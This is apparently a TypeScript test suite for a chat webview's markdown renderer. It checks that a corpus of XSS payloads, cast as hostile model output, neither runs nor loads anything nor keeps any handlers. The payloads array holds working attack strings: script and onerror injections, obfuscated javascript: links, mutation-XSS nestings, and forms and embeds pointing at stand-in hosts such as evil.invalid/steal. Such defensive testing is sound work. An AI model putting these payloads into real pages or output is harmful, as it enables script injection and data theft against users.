// Hostile model output through the real bundle: nothing may run, nothing may load from elsewhere,
// no handler attribute or active element may survive. The CSP would stop most of these on its own,
// so the checks look at the DOM (what the sanitiser let through) and at CSP violation reports (the
// CSP had nothing to block), not only at whether a payload managed to run.
import * as assert from "node:assert/strict";
import { WebviewBench } from "./bench";
import { assistant, showMarkdown, stateOf } from "./markdownBench";

const run = (n: number) => `window.__xss=${n}`;
const payloads = [
  `<script>${run(1)}</script>`,
  `<img src=x onerror="${run(2)}">`,
  `[plain](javascript:${run(3)})`,
  `[entity](&#106;avascript:${run(4)}) and [tab](jav&#x09;ascript:${run(4)})`,
  `<a href="&#x6A;&#x61;vascript:${run(5)}">entity html</a> <a href="JaVaScRiPt:${run(5)}">mixed</a>`,
  `[mixed case](JaVaScRiPt:${run(6)})`,
  `<svg onload="${run(7)}"><circle r=5></circle></svg>`,
  `<svg><script>${run(8)}</script></svg>`,
  `<iframe srcdoc="<script>parent.__xss=9</script>"></iframe>`,
  `<a href="data:text/html,<script>${run(10)}</script>">data link</a> [md data](data:text/html;base64,PHNjcmlwdD4=)`,
  `<form action="http://evil.invalid/steal"><input name=q><button formaction="http://evil.invalid/b">go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.invalid/">`,
  `<style>body{background:url(http://tracker.invalid/bg.png)} @import "http://tracker.invalid/i.css";</style>`,
  `![tracker](http://tracker.invalid/pixel.png) ![t2](https://tracker.invalid/p.gif "title")`,
  `<javascript:${run(11)}> <vbscript:msgbox(1)> <http://example.com/auto> www.example.com/www`,
  `<!--><img src=x onerror="${run(12)}">--> <!-- --!><img src=x onerror="${run(12)}"> -->`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run(13)}"></style></mglyph></table></mtext></math>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run(14)} src=1>"></textarea></mtext></svg></mglyph></mi></math>`,
  `<a href="vbscript:msgbox(1)">vb</a> <details open ontoggle="${run(15)}"><summary>s</summary>d</details>`,
  `<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/e"><base href="http://evil.invalid/"><link rel=stylesheet href="http://evil.invalid/x.css">`,
  `<p style="background:url(http://tracker.invalid/p.png)">styled</p> <input type="image" src="http://tracker.invalid/i.png">`,
  `<a href="https://example.com" onclick="${run(16)}" onmouseover="${run(16)}">handler on link</a>`,
  `[title](https://a.example "\\" onmouseover=\\"${run(17)}")`,
  `<video><source onerror="${run(18)}"></video><audio src=x onerror="${run(18)}"></audio><img srcset="http://tracker.invalid/s.png 1x">`,
  "```html\n<script>window.__xss=19</script>\n```",
  `<noscript><p title="</noscript><img src=x onerror=${run(20)}>"></noscript>`,
  `<table><tr><td><a href="javascript:${run(21)}">in table</a></td></tr></table>`,
];

async function inspect(bench: WebviewBench) {
  return bench.page.evaluate(() => {
    const md = [...document.querySelectorAll(".md")];
    const all = md.flatMap(m => [...m.querySelectorAll("*")]);
    return {
      xss: (window as unknown as { __xss?: number }).__xss,
      handlers: all.flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name)).map(a => `${e.nodeName} ${a.name}`)),
      active: all.filter(e => /^(SCRIPT|STYLE|IFRAME|FORM|SVG|MATH|META|IMG|OBJECT|EMBED|BASE|LINK|VIDEO|AUDIO|SOURCE|TEXTAREA|NOSCRIPT)$/i.test(e.nodeName)).map(e => e.nodeName),
      loading: all.flatMap(e => ["src", "srcset", "srcdoc", "style", "action", "formaction", "data", "xlink:href", "background", "poster"]
        .filter(a => e.hasAttribute(a)).map(a => `${e.nodeName} ${a}`)),
      hrefs: all.filter(e => e.hasAttribute("href")).map(e => e.getAttribute("href")!),
      inputs: all.filter(e => e.nodeName === "INPUT").map(e => `${e.getAttribute("type")} ${e.hasAttribute("disabled")}`),
      text: md.map(m => (m as HTMLElement).innerText).join("\n"),
      location: location.href,
    };
  });
}

describe("webview bench: hostile markdown", function () {
  let bench: WebviewBench;
  afterEach(async () => bench?.close());

  async function assertClean(what: string) {
    await bench.page.waitForTimeout(300); // idle highlighting, any late load
    const r = await inspect(bench);
    assert.equal(r.xss, undefined, `${what}: a payload ran`);
    assert.deepEqual(r.handlers, [], `${what}: handler attributes survived`);
    assert.deepEqual(r.active, [], `${what}: active elements survived`);
    assert.deepEqual(r.loading, [], `${what}: loading/style attributes survived`);
    for (const h of r.hrefs) assert.match(h, /^(https?:|mailto:|[^a-z:]*$|[a-z0-9./_-]+$)/i, `${what}: href ${h}`);
    assert.deepEqual(r.inputs, [], `${what}: inputs survived`);
    assert.deepEqual(bench.requests.filter(u => !u.startsWith(bench.origin)), [], `${what}: requests left the page's origin`);
    // Chromium checks the inline handlers and styles it meets while parsing DOMPurify's inert
    // DOMParser document against the page's CSP and reports them at the document (nothing runs or
    // applies there), and since base-uri 'none' a <base href> in it as well; one by an element of
    // the page names that element. The handler, active-element and style checks above prove none of
    // them reached the page.
    const violations = (await bench.cspViolations()).filter(v => !/^((script-src-attr|style-src-attr|style-src-elem) inline|base-uri \S+) \(document\)$/.test(v));
    assert.deepEqual(violations, [], `${what}: the CSP had to block something the sanitiser let through: ${violations.join(", ")}`);
    return r;
  }

  it("renders the XSS corpus as one message: nothing runs, loads or keeps a handler", async () => {
    bench = await WebviewBench.open();
    await showMarkdown(bench, payloads.join("\n\n"));
    const r = await assertClean("whole message");
    assert.match(r.text, /\[image: tracker\]/, "a markdown image shows as a placeholder link");
    assert.match(r.text, /<script>window.__xss=19<\/script>/, "code shows markup as text");
    assert.ok(r.hrefs.includes("http://tracker.invalid/pixel.png"), "the image placeholder links to its URL (opened by the host on click)");
  });

  it("stays clean at every step of a stream (partial payloads are sanitised too)", async () => {
    bench = await WebviewBench.open();
    const text = payloads.join("\n\n");
    for (let i = 23; i < text.length + 23; i += 23) await bench.post(stateOf([assistant("msg_1", text.slice(0, i), true)]));
    await bench.post(stateOf([assistant("msg_1", text, false)]));
    await assertClean("streamed");
  });

  it("each payload alone, and clicking every link or path posts to the host without navigating", async () => {
    bench = await WebviewBench.open();
    for (const [i, p] of payloads.entries()) {
      await showMarkdown(bench, `payload ${i}\n\n${p}`);
      await assertClean(`payload ${i}`);
    }
    await showMarkdown(bench, payloads.join("\n\n"));
    const links = await bench.page.locator(".md a, .md .md-path").all();
    for (const l of links) await l.click({ force: true });
    const r = await assertClean("after clicks");
    assert.equal(r.location, `${bench.origin}/`, "the webview navigated");
    const posted = (await bench.posted()).filter(m => m.type === "openLink" || m.type === "openFile");
    assert.ok(posted.length > 0 && posted.every(m => m.type !== "openLink" || /^(https?:|mailto:)/.test(m.url)), JSON.stringify(posted));
  });
});
